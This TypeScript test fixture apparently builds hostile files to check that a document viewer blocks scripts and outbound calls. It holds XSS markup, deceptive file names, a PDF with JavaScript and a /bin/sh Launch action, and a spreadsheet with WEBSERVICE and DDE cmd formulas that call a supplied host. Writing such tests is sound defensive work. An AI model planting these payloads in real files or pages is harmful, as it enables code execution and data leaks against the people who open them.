import ExcelJS from 'exceljs'

import { aPdfOf } from './pdfs.ts'

/** What raises the alarm in the page that runs it, or in a page around it. */
export const alarm = 'globalThis.alarms = (globalThis.alarms ?? 0) + 1; top.alarms = (top.alarms ?? 0) + 1'

/** Markup that runs the alarm or calls a host in every way that a page lets markup do so. */
export function hostileMarkup(host: string): string {
  return [
    `<script>${alarm}</script>`,
    `<script src="${host}/script.js"></script>`,
    `<img src="x" onerror="${alarm}">`,
    `<img src="${host}/pixel.png">`,
    `<svg onload="${alarm}"><use href="${host}/drawing.svg#it"/></svg>`,
    `<iframe src="${host}/frame"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${alarm}&lt;/script&gt;"></iframe>`,
    `<object data="${host}/object"></object><embed src="${host}/embed">`,
    `<link rel="stylesheet" href="${host}/style.css"><style>@import url(${host}/import.css); * { background: url(${host}/background.png) }</style>`,
    `<meta http-equiv="refresh" content="0; url=${host}/refresh"><base href="${host}/">`,
    `<form action="${host}/form"><input autofocus onfocus="${alarm}"></form>`,
    `<details open ontoggle="${alarm}"></details><video src="${host}/film" autoplay></video>`,
    `<a href="javascript:${alarm}">klik</a> <a href="${host}/link" target="_blank">hier</a>`,
  ].join('\n')
}

/** Names that a file can bear, and that nobody should be harmed or misled by. */
export const hostileNames: readonly string[] = [
  `<img src=x onerror="alarms=1">.txt`,
  'verslag\u202Egnp.exe.txt',
  'eerste regel\ntweede regel.txt',
  '"><script>alarms=1<!--.txt',
  'javascript:alarms=1.txt',
  '{{7*7}}${7*7}.txt',
]

export interface HostileFile {
  readonly fileName: string
  readonly bytes: Uint8Array | string
}

/** A file of each kind that is shown in the window, made to run something or to fetch something. */
export async function hostileFiles(host: string): Promise<readonly HostileFile[]> {
  const markup = hostileMarkup(host)
  return [
    ...hostileNames.map((fileName) => ({ fileName, bytes: `${fileName}\n${markup}` })),
    { fileName: 'pagina.html', bytes: `<!doctype html><html><body onload="${alarm}">${markup}</body></html>` },
    { fileName: 'tekening.svg', bytes: `<svg xmlns="http://www.w3.org/2000/svg" onload="${alarm}">${markup}</svg>` },
    { fileName: 'bericht.eml', bytes: aHostileMail(markup) },
    { fileName: 'blad.pdf', bytes: aHostilePdf(host) },
    { fileName: 'werkmap.xlsx', bytes: await aHostileWorkbook(host) },
    { fileName: 'een-regel.txt', bytes: 'a'.repeat(20 << 20) },
  ]
}

function aHostileMail(markup: string): string {
  const headers = ['From: "<img src=x onerror=alarms=1>" <a@example.org>', 'To: b@example.org', 'Subject: =?utf-8?Q?=3Cscript=3Ealarms=3D1=3C/script=3E?=', 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8']
  return `${headers.join('\r\n')}\r\n\r\n<html><body>${markup}</body></html>`
}

/** Opens with a script, and bears links that run a script, open an address, start a program and send a form. */
function aHostilePdf(host: string): Uint8Array {
  const actions = [`<</S/URI/URI(${host}/uri)>>`, '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("' + host + '"\\))>>', '<</S/Launch/F(/bin/sh)>>', `<</S/GoToR/F(${host}/other.pdf)/D[0/Fit]>>`]
  return aPdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.getURL\\("${host}/open"\\))>>/AA<</WC<</S/URI/URI(${host}/close)>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R/Annots[${actions.map(aLink).join('')}]/AA<</O<</S/URI/URI(${host}/page)>>>>>>`,
    '<</Length 42>>\nstream\nBT /F 12 Tf 20 100 Td (Klik hier) Tj ET    \nendstream',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ])
}

function aLink(action: string, index: number): string {
  return `<</Type/Annot/Subtype/Link/Rect[0 ${index * 50} 200 ${index * 50 + 40}]/A${action}>>`
}

async function aHostileWorkbook(host: string): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('Blad')
  sheet.addRow([{ formula: `WEBSERVICE("${host}/webservice")`, result: 'formule' }])
  sheet.addRow([{ text: 'koppeling', hyperlink: `${host}/hyperlink` }])
  sheet.addRow([`=cmd|'/c calc'!A1`, '<img src=x onerror="alarms=1">'])
  return new Uint8Array(await workbook.xlsx.writeBuffer())
}
